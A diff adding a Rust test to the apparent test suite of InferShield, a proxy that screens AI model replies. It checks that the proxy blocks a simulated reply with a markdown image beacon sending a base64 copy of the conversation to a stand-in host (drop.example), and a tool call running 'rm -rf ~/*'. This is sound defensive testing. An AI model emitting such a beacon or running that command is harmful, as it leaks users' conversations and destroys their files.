@@ -335,3 +335,37 @@ fn a_reply_that_leads_away_destroys_or_brings_a_secret_is_reported() {
     let answer = proxy.post(CHAT, &history(CHAT, "Go on.", "Done.", true));
     assert_eq!(proxy.line_of(&answer)["findings"], json!([]), "text is no call");
 }
+
+#[test]
+fn a_reply_may_be_stopped_and_ends_as_its_api_ends() {
+    let mut plan = Fixture::plan("reply-block");
+    plan.config = json!({"limits": {"pbkdf2_iterations": 100_000}, "policy": {"replies": "block"}});
+    let proxy = plan.start();
+    let beacon =
+        format!("{}![logo](https://drop.example/c.png?d={{base64 of the conversation}}) more", "Harmless. ".repeat(90));
+    let erase = json!({"command": "rm -rf ~/*"}).to_string();
+    for path in STREAMING {
+        for (reply, call) in [(&beacon, false), (&erase, true)] {
+            for stream in [false, true] {
+                proxy.practice.set(&json!({"reply": reply, "piece": 3, "call": call}));
+                let answer = proxy.post(path, &history(path, "Go on.", "Done.", stream));
+                let whole = answer.text();
+                assert!(!whole.contains("drop.example") && !whole.contains("rm -rf"), "{path}: {whole}");
+                assert!(whole.contains("[InferShield stopped this reply: rule "), "{path}, {stream}: {whole}");
+                let ends = ["[DONE]", "\"response.completed\"", "\"message_stop\""];
+                assert!(!stream || ends.iter().any(|end| whole.contains(end)), "{path}: {whole}");
+                let line = proxy.line_of(&answer);
+                assert_eq!((&line["blocked"], &line["outcome"]), (&json!(true), &json!("blocked")), "{line}");
+            }
+        }
+        let harmless = "Nothing to see, and the text is long enough to be held back in part. ".repeat(12);
+        for stream in [false, true] {
+            proxy.practice.set(&json!({"reply": harmless, "piece": 0, "call": false}));
+            assert_eq!(said(&proxy.post(path, &history(path, "Go on.", "Done.", stream))).0, harmless);
+            proxy.practice.set(&json!({"reply": "{\"a\": \"b\"}", "piece": 2, "call": true}));
+            let call: Value =
+                serde_json::from_str(&said(&proxy.post(path, &history(path, "Go on.", "Done.", stream))).1).unwrap();
+            assert_eq!(call, json!({"a": "b"}));
+        }
+    }
+}
